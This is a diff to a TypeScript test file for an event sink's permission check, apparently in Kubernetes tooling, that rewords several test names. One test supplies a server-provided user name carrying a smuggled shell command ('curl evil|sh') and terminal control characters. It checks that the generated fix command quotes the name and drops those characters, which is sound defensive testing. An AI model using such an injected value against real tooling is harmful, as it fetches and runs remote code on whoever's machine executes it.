@@ -154,20 +154,20 @@ test("FetchEventSink.check() binds the role to a service account, and names the 
   assert.match(quoted.problems[0]!.fix, /--user='Ann O'\\''Hara' -n shop$/);
 });
 
-test("FetchEventSink.check() quotes a name that the server made up, and shows none of its control characters", async () => {
+test("FetchEventSink.check() quotes a name from the server, and removes its control characters", async () => {
   const hostile = await check({ user: "system:serviceaccount:shop:x; curl evil|sh #\u001b[2K\u202e", permitted: [] });
   const { message, fix } = hostile.problems[0]!;
   assert.match(fix, / --user='system:serviceaccount:shop:x; curl evil\|sh #.*' -n shop$/);
   assert.doesNotMatch(`${hostile.user}${message}${fix}`, /[\p{Cc}\p{Cf}]/u);
 });
 
-test("FetchEventSink.check() takes the user from a refusal where the server does not name it", async () => {
+test("FetchEventSink.check() takes the user from a refusal if the server does not report it", async () => {
   const { user, problems } = await check({ permitted: [] });
   assert.equal(user, "ann");
   assert.match(problems[0]!.message, /^ann may not create or patch events/);
 });
 
-test("FetchEventSink.check() explains a missing role where the server answers no access reviews", async () => {
+test("FetchEventSink.check() explains a missing role if the server answers no access reviews", async () => {
   const { permitted, problems } = await check({
     permitted: [],
     respond: ({ url }) => url.endsWith(REVIEWS) ? status(404, "not found") : undefined,
